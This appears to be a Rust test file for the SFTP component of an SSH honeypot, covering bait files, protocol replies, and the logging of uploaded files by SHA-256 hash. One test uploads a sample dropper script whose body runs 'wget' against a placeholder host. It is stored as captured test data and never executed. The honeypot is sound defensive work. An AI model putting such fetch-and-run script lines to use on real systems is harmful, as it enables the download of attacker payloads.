#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use proptest::prelude::*;
use sha2::{Digest, Sha256};

use super::*;
use crate::{protocols::ssh::capture::hex, shell::fs::HostInfo};

fn sftp() -> Sftp {
    let host = HostInfo {
        hostname: "files01".into(),
        distro: "debian".into(),
        kernel: "6.1.0-27-amd64".into(),
        ip: "10.0.0.5".into(),
    };
    let mut fs = FakeFs::for_host(&host);
    fs.mkdir("/home/deploy");
    Sftp::new(fs, "deploy", Budget::new(1 << 20), true)
}

fn packet(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut inner = vec![kind];
    inner.extend_from_slice(body);
    let mut w = Writer::new();
    w.string(&inner);
    w.finish()
}

/// Send packets (possibly split anywhere), return each reply's payload.
fn exchange(s: &mut Sftp, bytes: &[u8], step: &mut Step) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for chunk in bytes.chunks(7) {
        s.receive(chunk, &mut out, step);
    }
    let mut r = Reader::new(&out);
    let mut replies = Vec::new();
    while let Some(p) = r.string() {
        replies.push(p.to_vec());
    }
    assert!(r.is_empty());
    replies
}

fn status_of(reply: &[u8]) -> (u32, u32) {
    let mut r = Reader::new(reply);
    assert_eq!(r.u8(), Some(FXP_STATUS));
    (r.u32().unwrap(), r.u32().unwrap())
}

#[test]
fn version_lists_openssh_extensions() {
    let mut s = sftp();
    let mut step = Step::default();
    let replies = exchange(&mut s, &packet(FXP_INIT, &3u32.to_be_bytes()), &mut step);
    let mut r = Reader::new(&replies[0]);
    assert_eq!(r.u8(), Some(FXP_VERSION));
    assert_eq!(r.u32(), Some(3));
    let mut names = Vec::new();
    while let (Some(n), Some(_)) = (r.utf8(), r.string()) {
        names.push(n.to_owned());
    }
    assert_eq!(
        names.first().map(String::as_str),
        Some("posix-rename@openssh.com")
    );
    assert!(names.contains(&"limits@openssh.com".to_owned()));
    assert_eq!(names.len(), 11);
}

#[test]
fn upload_is_captured_on_close() {
    let mut s = sftp();
    let mut step = Step::default();
    let mut bytes = packet(FXP_REALPATH, &Writer::new().u32(1).string(b".").finish());
    bytes.extend(packet(
        FXP_OPEN,
        &Writer::new()
            .u32(2)
            .string(b"/tmp/kit.sh")
            .u32(0x1a)
            .u32(0)
            .finish(),
    ));
    let replies = exchange(&mut s, &bytes, &mut step);
    let mut r = Reader::new(&replies[0]);
    assert_eq!(r.u8(), Some(FXP_NAME));
    assert_eq!((r.u32(), r.u32()), (Some(1), Some(1)));
    assert_eq!(r.string(), Some(&b"/home/deploy"[..]));
    let mut r = Reader::new(&replies[1]);
    assert_eq!((r.u8(), r.u32()), (Some(FXP_HANDLE), Some(2)));
    let handle = r.string().unwrap().to_vec();

    let body = b"#!/bin/sh\nwget http://x/y\n";
    let mut bytes = packet(
        FXP_WRITE,
        &Writer::new()
            .u32(3)
            .string(&handle)
            .u64(10)
            .string(&body[10..])
            .finish(),
    );
    bytes.extend(packet(
        FXP_WRITE,
        &Writer::new()
            .u32(4)
            .string(&handle)
            .u64(0)
            .string(&body[..10])
            .finish(),
    ));
    bytes.extend(packet(
        FXP_CLOSE,
        &Writer::new().u32(5).string(&handle).finish(),
    ));
    bytes.extend(packet(
        FXP_STAT,
        &Writer::new().u32(6).string(b"/tmp/kit.sh").finish(),
    ));
    let replies = exchange(&mut s, &bytes, &mut step);
    assert_eq!(status_of(&replies[0]), (3, 0));
    assert_eq!(status_of(&replies[1]), (4, 0));
    assert_eq!(status_of(&replies[2]), (5, 0));
    let mut r = Reader::new(&replies[3]);
    assert_eq!(
        (r.u8(), r.u32(), r.u32(), r.u64()),
        (Some(FXP_ATTRS), Some(6), Some(0xf), Some(body.len() as u64))
    );

    let sha = hex(&Sha256::digest(body));
    let ev = &step.events[0];
    assert_eq!(ev.kind, "upload");
    assert_eq!(ev.field("path"), Some("/tmp/kit.sh"));
    assert_eq!(ev.field("size"), Some(body.len().to_string().as_str()));
    assert_eq!(ev.field("sha256"), Some(sha.as_str()));
    assert_eq!(ev.field("stored_as"), Some(sha.as_str()));
    assert_eq!(ev.field("truncated"), Some("false"));
    assert_eq!(ev.field("method"), Some("sftp"));
    assert_eq!(step.artifacts[0].name, sha);
    assert_eq!(step.artifacts[0].bytes, body);
}

#[test]
fn listing_and_reading_bait() {
    let mut s = sftp();
    let mut step = Step::default();
    let replies = exchange(
        &mut s,
        &packet(FXP_OPENDIR, &Writer::new().u32(1).string(b"/etc").finish()),
        &mut step,
    );
    let handle = Reader::new(&replies[0][5..]).string().unwrap().to_vec();
    let mut bytes = packet(FXP_READDIR, &Writer::new().u32(2).string(&handle).finish());
    bytes.extend(packet(
        FXP_READDIR,
        &Writer::new().u32(3).string(&handle).finish(),
    ));
    let replies = exchange(&mut s, &bytes, &mut step);
    let mut r = Reader::new(&replies[0]);
    assert_eq!((r.u8(), r.u32()), (Some(FXP_NAME), Some(2)));
    let count = r.u32().unwrap();
    let mut names = Vec::new();
    for _ in 0..count {
        names.push(r.utf8().unwrap().to_owned());
        let long = r.utf8().unwrap();
        assert!(long.starts_with('d') || long.starts_with('-'), "{long}");
        let flags = r.u32().unwrap();
        assert_eq!(flags, 0xf);
        r.bytes(8 + 4 * 5).unwrap();
    }
    assert!(names.contains(&"passwd".to_owned()), "{names:?}");
    assert_eq!(status_of(&replies[1]), (3, 1));

    let replies = exchange(
        &mut s,
        &packet(
            FXP_OPEN,
            &Writer::new()
                .u32(4)
                .string(b"/etc/hostname")
                .u32(1)
                .u32(0)
                .finish(),
        ),
        &mut step,
    );
    let handle = Reader::new(&replies[0][5..]).string().unwrap().to_vec();
    let mut bytes = packet(
        FXP_READ,
        &Writer::new()
            .u32(5)
            .string(&handle)
            .u64(0)
            .u32(32768)
            .finish(),
    );
    bytes.extend(packet(
        FXP_READ,
        &Writer::new()
            .u32(6)
            .string(&handle)
            .u64(8)
            .u32(32768)
            .finish(),
    ));
    let replies = exchange(&mut s, &bytes, &mut step);
    let mut r = Reader::new(&replies[0]);
    assert_eq!((r.u8(), r.u32()), (Some(FXP_DATA), Some(5)));
    assert_eq!(r.string(), Some(&b"files01\n"[..]));
    assert_eq!(status_of(&replies[1]), (6, 1));
    assert_eq!(step.events.len(), 1);
    assert_eq!(step.events[0].kind, "download");
    assert_eq!(step.events[0].field("path"), Some("/etc/hostname"));
}

#[test]
fn missing_paths_and_unknown_requests() {
    let mut s = sftp();
    let mut step = Step::default();
    let mut bytes = packet(FXP_STAT, &Writer::new().u32(1).string(b"/nope").finish());
    bytes.extend(packet(
        FXP_OPEN,
        &Writer::new()
            .u32(2)
            .string(b"/nope/x")
            .u32(0x1a)
            .u32(0)
            .finish(),
    ));
    bytes.extend(packet(
        FXP_EXTENDED,
        &Writer::new().u32(3).string(b"bogus@x").finish(),
    ));
    bytes.extend(packet(99, &Writer::new().u32(4).finish()));
    bytes.extend(packet(
        FXP_MKDIR,
        &Writer::new().u32(5).string(b"/tmp/d").u32(0).finish(),
    ));
    bytes.extend(packet(
        FXP_MKDIR,
        &Writer::new().u32(6).string(b"/tmp/d").u32(0).finish(),
    ));
    bytes.extend(packet(
        FXP_RMDIR,
        &Writer::new().u32(7).string(b"/tmp/d").finish(),
    ));
    let replies = exchange(&mut s, &bytes, &mut step);
    let codes: Vec<(u32, u32)> = replies.iter().map(|r| status_of(r)).collect();
    assert_eq!(
        codes,
        [(1, 2), (2, 2), (3, 8), (4, 8), (5, 0), (6, 4), (7, 0)]
    );
}

#[test]
fn oversized_packets_end_the_subsystem() {
    let mut s = sftp();
    let mut out = Vec::new();
    let mut step = Step::default();
    s.receive(&[0, 0x10, 0, 0, 1], &mut out, &mut step);
    assert!(s.failed && out.is_empty());
}

proptest! {
    #[test]
    fn never_panics(packets in proptest::collection::vec((0u8..24, proptest::collection::vec(any::<u8>(), 0..64)), 0..24)) {
        let mut s = sftp();
        let mut step = Step::default();
        let mut out = Vec::new();
        for (kind, body) in packets {
            let kind = if kind > 20 { 200 } else { kind };
            s.receive(&packet(kind, &body), &mut out, &mut step);
        }
        s.finish(&mut step);
    }
}
